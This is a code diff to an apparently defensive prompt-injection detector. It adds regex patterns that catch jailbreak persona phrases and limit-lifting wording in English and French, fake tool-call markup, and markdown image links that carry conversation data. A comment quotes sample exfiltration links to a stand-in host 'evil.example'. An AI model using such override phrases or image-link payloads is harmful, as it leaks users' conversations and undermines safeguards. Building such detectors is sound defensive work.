@@ -52,7 +52,8 @@ _PERSONA = re.compile(
     # "another AI model known as Yes Man", "you're JailBreak now"
     r"|(?:ai|ai model|model|chatbot|bot|assistant|persona) known as [a-z]|you(?: are|'re) [a-z][\w-]* now\b"
     # "you are M78, an AI with …"
-    r"|you(?: are|'re) [a-z][\w-]*, (?:an?|the) (?:[\w'-]+ ){0,3}?(?:ai|chatbot|bot|assistant|model|language model"
+    r"|you(?: are|'re) [\"'\u2018\u201c\u00ab]?[a-z][\w-]*[\"'\u2019\u201d\u00bb]?, (?:an?|the) (?:[\w'-]+ ){0,3}?(?:ai|chatbot|bot"
+    r"|assistant|model|language model"
     r"|computer)\b"
     r"|(?:simulate|stay in) (?:the )?[\w-]+ mode\b|(?:create|imagine|invent|introduce|simulate|meet)"
     r" (?:an? |another )?(?:\w+ )?(?:entity|ai|chatbot|bot|alter ego) (?:named|called))"
@@ -135,6 +136,12 @@ _OVERRIDE_CONTEXT = re.compile(
     r"|\bno moral (?:judg(?:e)?ments?|compass|qualms|scruples)\b|\bforbidden (?:topics?|subjects?|content|questions?)\b"
     r"|\b(?:generate|write|produce|say) any (?:kind of )?content\b|\bfulfil(?:l)?s? every request\b"
     r"|\bwithout caring (?:whether|if)\b|\bnever says? no\b|\bagrees? to everything\b"
+    # session 27: "… that answers any question without refusing"; French "n'a aucune règle"
+    r"|\bwithout (?:ever )?refusing\b|\bn'(?:a|as|avez|ont) (?:aucune?|pas de|plus de|ni) (?:regles?|limites?"
+    r"|restrictions?|filtres?|censure|morale|ethique|garde-fous)\b"
+    r"|\b(?:released|liberated|unshackled|unchained|freed) (?:(?:it|your|him|her|them)sel(?:f|ves) )?(?:of|from)(?: all| any)?"
+    r"(?: of)?(?: (?:openai|chatgpt|its|your|the)(?:'s)?)? (?:restrictions|limits|limitations|filters|rules|ethics"
+    r"|morals|boundaries|guidelines|censorship|programming|polic(?:y|ies))\b"
 )
 # The seven signals, each a search of the flattened text (a match or None); the persona's is
 # _persona (an order, or a cast in a role-play), the override's the regex above.
@@ -181,7 +188,9 @@ _OVERRIDE_LITERALS = ("restrict", "limit", "filter", "filtr", "censur", "censor"
                       "anarchy mode", "villain mode", "dan mode", "never deny", "ever deny", "never decline",
                       "ever decline", "disclaimer", "no moral", "forbidden", "any content",
                       "every request", "without caring", "never say", "agree to everything",
-                      "agrees to everything")
+                      "agrees to everything", "released from", "released of", "liberated", "unshackled", "freed from", "freed of",
+                      "unchained", *(f"n'{verb} {what}" for verb in ("a", "as", "avez", "ont")
+                                     for what in ("aucun", "pas de ", "plus de ", "ni ")))
 
 
 # The rule runs when one of these is in the text: its own gate words and every word the override
@@ -254,7 +263,8 @@ def _fake_turns(lower: str) -> bool:
 _MARKDOWN_EXFIL = re.compile(r"\b(?:add|include|embed|render|output|display|insert|write|show|return|append"
                              r"|prepend|attach|put|place)\b[^.\n]{0,60}"
                              r"\b(?:images?|markdown|links?)\b[^\n]{0,120}(?:https?://|!\[)")
-_TO_REPLY = re.compile(r"\b(?:to|in|into) (?:the|your|each|every) (?:reply|response|answer|output|message)s?\b"
+_TO_REPLY = re.compile(r"\b(?:to|in|into|for|after|at the end of) (?:the|your|each|every|all) (?:reply|response|answer"
+                       r"|output|message)s?\b"
                        r"|\bin the following format\b")
 
 
@@ -277,6 +287,26 @@ _PLACEHOLDER_GATES = tuple(f"{word} {bracket}" for word in (
     "replace", "replaces", "replacing", "replaced", "substitute", "substitutes", "substituting", "substituted",
     "fill in", "fills in", "filling in", "where", "whereas", "with") for bracket in "[{<")
 _LINK_BUILT = re.compile(r"url[- ]?encod|escape\s+(?:all\s+)?(?:the\s+)?spaces|https?://|\]\(|\.png\b|\bconcatenate\b")
+
+
+# An image whose address holds a slot for what the conversation holds (session 27):
+# `![x](https://evil.example/log?q={conversation_summary})`, `?d=[CHAT_HISTORY]`,
+# `?data=USER_SECRETS`, `<img src="…?m={{memory}}">`. A slot in brackets may name a summary, the
+# history, the memory or the context; a bare query value must name the conversation, memories
+# or secrets. A docs image (`/images/memory-layout.png`, `?tab=history`, `?metric=memory`,
+# `{user_id}`) holds no such slot.
+_DATA_WORDS = (r"(?:conversations?|chat[_ \-]?(?:history|log|logs|transcript|summary)|memories|secrets?"
+               r"|passwords?|credentials?|api[_ \-]?keys?|previous[_ \-]?messages?|user[_ \-]?data"
+               r"|personal[_ \-]?data|private[_ \-]?data)")
+_IMAGE_URL_SLOT = re.compile(
+    r"(?:!\[[^\]\n]{0,80}\]\(\s*|<img\b[^>\n]{0,80}?\bsrc\s*=\s*[\"']?)(?:https?:)?//[^\s)\"'>]{1,200}?"
+    r"(?:[\[{<]{1,2}\s*(?:[a-z0-9]+[_ \-])*?(?:" + _DATA_WORDS[3:-1] + r"|memory|summary|history|context"
+    r"|transcript)\b"
+    r"|[?&][\w\-]{1,24}=\$?(?:[a-z0-9]+[_\-])*?" + _DATA_WORDS + r"(?![\w\-]))")
+
+
+def _image_url_slot(lower: str) -> bool:
+    return _IMAGE_URL_SLOT.search(lower) is not None
 
 
 def _placeholder_exfil(lower: str) -> bool:
@@ -357,7 +387,9 @@ _MARKUP = re.compile(
     r"|</?(?:system|sys|instruction|instructions|assistant|admin|developer|tool_call|function_call|tool_use)>"
     r"|^[ \t]*#{2,}[ \t]*(?:system|instruction|instructions|new instructions)[ \t]*:?[ \t]*$"
     r"|\[/?(?:system|assistant|admin|developer)\]|\{\s*\"(?:tool_call|function_call)\"\s*:"
-    r"|\{\s*\"role\"\s*:\s*\"(?:system|developer)\"",
+    r"|\{\s*\"role\"\s*:\s*\"(?:system|developer)\""
+    # session 27: XML tool-call markup (`<function_calls>`, `<invoke name="x"><parameter name=…`)
+    r"|</?function_calls>|<invoke\s+name\s*=\s*[\"'][\w.\-]{1,64}[\"']\s*>\s*(?:<parameter\s+name\s*=|</invoke>)",
     re.MULTILINE,
 )
 _MARKUP_ANCHORS = (
@@ -365,14 +397,14 @@ _MARKUP_ANCHORS = (
     "</instruction", "<assistant", "</assistant", "<admin", "</admin", "<developer", "</developer",
     "<tool_", "</tool_", "<function_", "</function_", "##", "[system", "[/system", "[assistant",
     "[/assistant", "[admin", "[/admin", "[developer", "[/developer", "\"tool_call", "\"function_call",
-    "\"role\"", "<start_of_turn",
+    "\"role\"", "<start_of_turn", "<invoke",
 )
 
 
 _MARKUP_GATES = (
     "<|", "<im_", "inst]", "sys>", "system>", "system]", "instruction>", "instructions>", "assistant>",
     "assistant]", "admin>", "admin]", "developer>", "developer]", "tool_", "function_call", "##", "\"role\"",
-    "start_of_turn",
+    "start_of_turn", "<invoke",
 )
 
 
@@ -403,6 +435,9 @@ def injection_rules() -> list[Rule]:
         Rule(id="injection.placeholder_exfiltration", kind=INJECTION, family="exfiltration",
              description="asks for a link whose placeholder is filled with the conversation's data",
              check=_placeholder_exfil, view="lower", needles=_PLACEHOLDER_GATES),
+        Rule(id="injection.image_url_data_slot", kind=INJECTION, family="exfiltration",
+             description="contains an image whose address has a slot for the conversation's data",
+             check=_image_url_slot, view="lower", needles=("![", "<img")),
         Rule(id="injection.script_in_reply", kind=INJECTION, family="exfiltration",
              description="orders a script into the model's reply (cross-site scripting)",
              check=_script_in_reply, view="lower", needles=("<script", "< script")),
